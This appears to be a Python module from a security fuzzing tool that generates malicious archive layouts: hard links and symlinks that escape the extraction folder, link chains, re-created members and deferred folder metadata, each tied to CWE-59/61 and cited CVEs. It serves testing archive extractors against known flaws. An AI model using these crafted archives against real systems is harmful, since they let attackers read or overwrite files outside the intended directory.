"""Hard links in archives, and metadata that is applied when everything has been unpacked."""

from collections.abc import Iterator

from capfuzz.attacks.techniques.archives_model import (
    ABOVE,
    FAR,
    JAIL,
    TOP,
    Packed,
    archive,
    file,
    folder,
    hard,
    link,
)


@archive(
    "unpacked-hard-link-out",
    group="archive-hard-links",
    cwe="CWE-59",
    needs="makes hard links without a look at where they lead: the outer file is in the folder then",
    refs=("CVE-2026-23745", "CVE-2018-20835"),
)
def hard_link_out() -> Iterator[Packed]:
    """Make a hard link to a file outside, whose content is then to be had inside."""
    for target, means in (
        ("../secret.txt", ABOVE),
        (FAR, FAR),
        (f"//{FAR}", FAR),
        (f"../..{FAR}", FAR),
        (f"sub/../../..{FAR}", FAR),
        (f"../../..{FAR}", FAR),
        ("../drop-evil/secret.txt", f"{JAIL}/drop-evil/secret.txt"),
    ):
        yield Packed((folder("sub"), hard("note", target)), means)
    yield Packed((hard("sub/note", "../secret.txt"),), ABOVE)


@archive(
    "unpacked-hard-link-then-file",
    group="archive-hard-links",
    cwe="CWE-59",
    needs="makes hard links as they come, and writes into a file that is there already",
    refs=("CVE-2018-20834", "CVE-2018-20835"),
)
def hard_link_then_file() -> Iterator[Packed]:
    """Make a hard link to a file outside, then a file of the same name, which is written there."""
    for target, means in (("../secret.txt", ABOVE), (FAR, FAR), (f"../..{FAR}", FAR)):
        yield Packed((hard("note", target), file("note")), means)


@archive(
    "unpacked-hard-link-through",
    group="archive-hard-link-chain",
    cwe="CWE-59",
    needs="judges the target of a hard link as text, while the system follows links on the way",
    refs=("CVE-2025-48387",),
)
def hard_link_through() -> Iterator[Packed]:
    """Make links that stay inside each by itself, and a hard link through them to the outside."""
    chain = (folder("p/q"), link("p/q/x", "../.."), link("y", "p/q/x/.."))
    yield Packed((*chain, hard("note", "y/secret.txt")), ABOVE)
    yield Packed((*chain, hard("note", "y/secret.txt"), file("note")), ABOVE)
    yield Packed(
        (folder("p/q"), link("p/q/x", "../.."), hard("note", "p/q/x/../secret.txt")), ABOVE
    )
    yield Packed((link("way", ".."), hard("note", "way/secret.txt"), file("note")), ABOVE)


@archive(
    "unpacked-hard-link-to-link",
    group="archive-hard-link-to-link",
    cwe="CWE-59",
    needs="gives a link a second name elsewhere (POSIX link does not follow), unjudged there",
)
def hard_link_to_link() -> Iterator[Packed]:
    """Give a link that stays inside where it stands a second name, higher up, where it leaves."""
    deep = (folder("a/b"), link("a/b/e", "../../secret.txt"))
    yield Packed((*deep, hard("note", "a/b/e")), ABOVE)
    yield Packed((*deep, file("secret.txt"), hard("a/note", "a/b/e")), ABOVE)
    up = (folder("a/b"), link("a/b/e", "../.."), hard("a/way", "a/b/e"))
    yield Packed((*up, file("a/way/new.txt")), f"{JAIL}/new.txt")


@archive(
    "unpacked-hard-link-of-moved",
    group="archive-hard-link-fallback",
    cwe="CWE-59",
    needs="makes a member again at the place of a hard link to it, without judging it there",
    refs=("CVE-2025-4330",),
)
def hard_link_of_moved() -> Iterator[Packed]:
    """Make a hard link to a member that is not to be found there by then: it is made once more."""
    moved = (folder("a/b"), link("c", "a/b"), link("c/e", f"../..{TOP}"), link("c", "a"))
    yield Packed((*moved, hard("note", "c/e")), TOP)
    yield Packed((*moved, hard("note", "c/e"), file("note")), TOP)
    higher = (folder("a/b"), link("c", "a/b"), link("c/e", "../../new.txt"), link("c", "."))
    yield Packed((*higher, hard("note", "c/e"), file("note")), "/new.txt")


@archive(
    "unpacked-metadata-later",
    group="archive-metadata",
    cwe="CWE-59",
    needs="sets times and modes of folders at the end, by name, when links stand there",
    refs=("CVE-2024-12718",),
)
def metadata_later() -> Iterator[Packed]:
    """Name a folder whose times and mode are set at the end, and let its name lead out by then."""
    start = (folder("a/y"), link("a/x", "y"), link("a/p", "x/.."), folder("a/p", mode=0o711))
    yield Packed((*start, link("a/x", "..")), JAIL)
    yield Packed((folder("a/p", mode=0o711), link("a/p", "x/../"), link("a/x", "../")), JAIL)
    yield Packed((folder("p", mode=0o711), link("p", "..")), JAIL)
    yield Packed(
        (link("p", "."), folder("p", mode=0o711), link("p", "../drop-evil")), f"{JAIL}/drop-evil"
    )


@archive(
    "unpacked-metadata-through-link",
    group="archive-metadata",
    cwe="CWE-61",
    needs="sets the mode, the owner or the times of a member that is a link, and follows it",
)
def metadata_through_link() -> Iterator[Packed]:
    """Give a link to a file outside a mode and a time of its own, which the file then has."""
    for name, target, means in (("note", "../secret.txt", ABOVE), ("all", "../drop-evil", JAIL)):
        yield Packed((link(name, target, mode=0o705),), means)
        yield Packed((link(name, target, mode=0o705), folder(name, mode=0o705)), means)
